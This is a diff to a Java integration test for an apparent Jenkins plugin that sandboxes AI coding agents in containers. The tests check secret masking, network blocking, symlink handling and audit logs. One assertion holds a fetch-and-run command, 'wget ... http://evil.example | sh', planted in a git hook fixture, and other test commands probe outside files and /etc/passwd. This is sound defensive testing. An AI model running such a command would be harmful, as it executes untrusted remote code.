@@ -1,5 +1,6 @@
 package io.jenkins.plugins.sbxagent.engine;
 
+import io.jenkins.plugins.sbxagent.engine.publish.RunOutputs;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
@@ -120,25 +121,25 @@ class AgentRunITest {
         assertThat(leak.after().sha256()).as("a link is recorded, never followed").isNull();
 
         Path out = result.outputs();
-        String log = Files.readString(out.resolve(AgentRun.AGENT_LOG));
+        String log = Files.readString(out.resolve(RunOutputs.AGENT_LOG));
         assertThat(log).contains("token=****").contains("done");
-        String diff = Files.readString(out.resolve(AgentRun.DIFF));
+        String diff = Files.readString(out.resolve(RunOutputs.DIFF));
         assertThat(diff).contains("+four").contains("deleted file mode 100644").contains("new file mode 120000")
                 .contains("+/etc/passwd").contains("old mode 100644").doesNotContain(".git/hooks");
-        assertThat(Files.readString(out.resolve(AgentRun.GIT_INTERNAL_DIFF))).contains("+wget -qO- http://evil.example | sh");
-        for (String artifact : List.of(AgentRun.AGENT_LOG, AgentRun.DIFF, AgentRun.GIT_INTERNAL_DIFF, AgentRun.CHANGES, AgentRun.AUDIT)) {
+        assertThat(Files.readString(out.resolve(RunOutputs.GIT_INTERNAL_DIFF))).contains("+wget -qO- http://evil.example | sh");
+        for (String artifact : List.of(RunOutputs.AGENT_LOG, RunOutputs.DIFF, RunOutputs.GIT_INTERNAL_DIFF, RunOutputs.CHANGES, RunOutputs.AUDIT)) {
             String text = Files.readString(out.resolve(artifact));
             assertThat(text).as(artifact).doesNotContain(SECRET)
                     .doesNotContain(Base64.getEncoder().encodeToString(SECRET.getBytes(StandardCharsets.UTF_8)).substring(0, 20));
         }
-        JsonNode audit = new ObjectMapper().readTree(out.resolve(AgentRun.AUDIT).toFile());
+        JsonNode audit = new ObjectMapper().readTree(out.resolve(RunOutputs.AUDIT).toFile());
         assertThat(audit.get("secretNames").toString()).isEqualTo("[\"API_TOKEN\"]");
         assertThat(audit.get("staging").asText()).isEqualTo(staging.id());
         assertThat(audit.get("network").asText()).isEqualTo("none");
         assertThat(audit.get("outcome").asText()).isEqualTo("succeeded");
         assertThat(audit.get("phasesMillis").fieldNames()).toIterable()
                 .containsExactly("preflight", "stage", "start", "agent", "collect", "diff", "risk", "publish", "cleanup");
-        JsonNode changesJson = new ObjectMapper().readTree(out.resolve(AgentRun.CHANGES).toFile());
+        JsonNode changesJson = new ObjectMapper().readTree(out.resolve(RunOutputs.CHANGES).toFile());
         assertThat(changesJson.get("count").asInt()).as("the new folder 'build' is listed, not counted").isEqualTo(8);
         assertThat(changesJson.get("listed").asInt()).isEqualTo(9);
 
@@ -207,7 +208,7 @@ class AgentRunITest {
         assertThat(result.outcome()).as(result.error()).isEqualTo(RunOutcome.SUCCEEDED);
         assertThat(result.changes()).extracting(Change::path)
                 .containsExactlyInAnyOrder("bad\\xffname", "d\u00e9j\u00e0.txt", "new\\x0aline", "back\\\\slash");
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.DIFF))).contains("+hidden").contains("+accent").contains("+line");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.DIFF))).contains("+hidden").contains("+accent").contains("+line");
         try (var names = Files.list(workspace)) {
             assertThat(names.filter(p -> Files.isRegularFile(p)).count()).as("every file applied under its exact name").isEqualTo(7);
         }
@@ -231,9 +232,9 @@ class AgentRunITest {
 
             assertThat(result.outcome()).as(staging + ": " + result.error()).isEqualTo(RunOutcome.SUCCEEDED);
             assertThat(result.changes()).as(staging.id()).extracting(c -> c.path()).containsExactly("seen.txt");
-            assertThat(Files.readString(result.outputs().resolve(AgentRun.DIFF))).as(staging.id())
+            assertThat(Files.readString(result.outputs().resolve(RunOutputs.DIFF))).as(staging.id())
                     .contains("+refused\n+refused").doesNotContain("planted").doesNotContain("evil");
-            assertThat(Files.readString(result.outputs().resolve(AgentRun.AUDIT))).as("only what exists is covered")
+            assertThat(Files.readString(result.outputs().resolve(RunOutputs.AUDIT))).as("only what exists is covered")
                     .containsPattern("\"hidden\" : \\[ \"\\.gemini\", \"opencode\\.json\" \\]");
             assertThat(Workspaces.fingerprint(workspace)).isEqualTo(before);
         }
@@ -273,7 +274,7 @@ class AgentRunITest {
         assertThat(result.exitCode()).isEqualTo(12);
         assertThat(result.applied()).isFalse();
         assertThat(Workspaces.fingerprint(workspace)).isEqualTo(before);
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.AUDIT))).contains("withheld: the gate decided fail");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.AUDIT))).contains("withheld: the gate decided fail");
     }
 
     @Test
@@ -303,7 +304,7 @@ class AgentRunITest {
             listener.close();
             acceptor.join();
 
-            String log = Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG));
+            String log = Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG));
             assertThat(result.outcome()).isEqualTo(RunOutcome.SUCCEEDED);
             assertThat(log).contains("blocked 172.17.0.1").doesNotContain("REACHED");
             assertThat(accepted).hasValue(0);
@@ -327,7 +328,7 @@ class AgentRunITest {
         RunResult result = run(spec(workspace, "sh", "-c",
                 "cat " + outside + " || echo no-such-file; cat ../outside-secret.txt 2>/dev/null || echo not-beside; ls /workspace/.. ").build());
 
-        String log = Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG));
+        String log = Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG));
         assertThat(log).contains("no-such-file").contains("not-beside").doesNotContain("HOST-ONLY-CONTENT");
     }
 
@@ -340,7 +341,7 @@ class AgentRunITest {
                 .withRunId("timeout-test").withLimits(Limits.defaults().withTimeout(Duration.ofSeconds(2))).build());
 
         assertThat(result.outcome()).isEqualTo(RunOutcome.TIMED_OUT);
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG))).contains("started");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG))).contains("started");
         assertThat(DockerEngine.containersOfRun("timeout-test")).isEmpty();
         assertThat(DockerEngine.volumesOfRun("timeout-test")).isEmpty();
     }
@@ -354,7 +355,7 @@ class AgentRunITest {
 
         assertThat(result.outcome()).isEqualTo(RunOutcome.AGENT_FAILED);
         assertThat(result.agentExit()).isEqualTo(7);
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG))).contains("failing");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG))).contains("failing");
     }
 
     @Test
@@ -367,13 +368,13 @@ class AgentRunITest {
 
         assertThat(result.outcome()).as(result.error()).isEqualTo(RunOutcome.SUCCEEDED);
         assertThat(result.staging()).isEqualTo("overlay");
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG))).startsWith("1000\n1000\n");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG))).startsWith("1000\n1000\n");
         assertThat(result.changes()).extracting(Change::path).containsExactly("notes.txt", "src/new.txt", "src/old.txt");
         assertThat(Workspaces.fingerprint(workspace)).as("the host workspace is untouched").isEqualTo(before);
-        JsonNode audit = new ObjectMapper().readTree(result.outputs().resolve(AgentRun.AUDIT).toFile());
+        JsonNode audit = new ObjectMapper().readTree(result.outputs().resolve(RunOutputs.AUDIT).toFile());
         assertThat(audit.path("stagingDetail").asText()).contains("idmapped");
         assertThat(mountsUnder(temp)).as("the view is unmounted").isEmpty();
-        assertThat(temp.resolve("work")).isEmptyDirectory();
+        assertThat(deletedWithin(temp.resolve("work"), Duration.ofSeconds(30))).as("the private folder is deleted after the result").isTrue();
     }
 
     @Test
@@ -396,8 +397,21 @@ class AgentRunITest {
 
         assertThat(result.outcome()).as(result.error()).isEqualTo(RunOutcome.SUCCEEDED);
         assertThat(result.staging()).isEqualTo("copy");
-        assertThat(Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG))).startsWith("1000\n");
+        assertThat(Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG))).startsWith("1000\n");
         assertThat(result.changes()).extracting(Change::path).containsExactly("notes.txt");
+    }
+
+    private static boolean deletedWithin(Path workRoot, Duration limit) throws IOException, InterruptedException {
+        long end = System.nanoTime() + limit.toNanos();
+        while (System.nanoTime() < end) {
+            try (var entries = Files.list(workRoot)) {
+                if (entries.findAny().isEmpty()) {
+                    return true;
+                }
+            }
+            Thread.sleep(50);
+        }
+        return false;
     }
 
     private static List<String> mountsUnder(Path folder) throws IOException {
@@ -413,7 +427,7 @@ class AgentRunITest {
         RunResult result = run(spec(workspace, "sh", "-c", "ls -A sbx-agent-out | wc -l; echo x 2>/dev/null > sbx-agent-out/forged.json || echo refused")
                 .withOutputs(workspace.resolve("sbx-agent-out")).build());
 
-        String log = Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG));
+        String log = Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG));
         // the shell's complaint goes to /dev/null: stderr interleaved with stdout could split the lines looked for
         assertThat(log.lines()).as("the hidden folder looks empty, and writing into it fails").contains("0", "refused");
         assertThat(workspace.resolve("sbx-agent-out/forged.json")).doesNotExist();
@@ -430,11 +444,11 @@ class AgentRunITest {
                 .withRead("reports/result.txt").withRead("reports/etc/passwd").withRead("alias/result.txt").withRead("missing.txt")
                 .build());
 
-        Path files = result.outputs().resolve(AgentRun.FILES);
+        Path files = result.outputs().resolve(RunOutputs.FILES);
         assertThat(Files.readString(files.resolve("reports/result.txt"))).isEqualTo("ok\n");
         assertThat(files.resolve("reports/etc")).doesNotExist();
         assertThat(files.resolve("alias")).doesNotExist();
-        JsonNode reads = new ObjectMapper().readTree(result.outputs().resolve(AgentRun.AUDIT).toFile()).get("reads");
+        JsonNode reads = new ObjectMapper().readTree(result.outputs().resolve(RunOutputs.AUDIT).toFile()).get("reads");
         assertThat(reads.toString()).contains("reports/etc is a symlink").contains("alias is a symlink").contains("not found");
     }
 
@@ -447,9 +461,9 @@ class AgentRunITest {
         RunResult result = run(spec(workspace, "sh", "-c", "cat /home/agent/.config/tool/settings.json; echo x >> /home/agent/.config/tool/settings.json || echo read-only")
                 .withPut(settings, "/home/agent/.config/tool/settings.json").build());
 
-        String log = Files.readString(result.outputs().resolve(AgentRun.AGENT_LOG));
+        String log = Files.readString(result.outputs().resolve(RunOutputs.AGENT_LOG));
         assertThat(log).contains("{\"mode\":\"plan\"}").contains("read-only");
-        JsonNode puts = new ObjectMapper().readTree(result.outputs().resolve(AgentRun.AUDIT).toFile()).get("puts");
+        JsonNode puts = new ObjectMapper().readTree(result.outputs().resolve(RunOutputs.AUDIT).toFile()).get("puts");
         assertThat(puts.get(0).get("target").asText()).isEqualTo("/home/agent/.config/tool/settings.json");
         assertThat(puts.get(0).get("sha256").asText()).hasSize(64);
         assertThat(result.changes()).isEmpty();
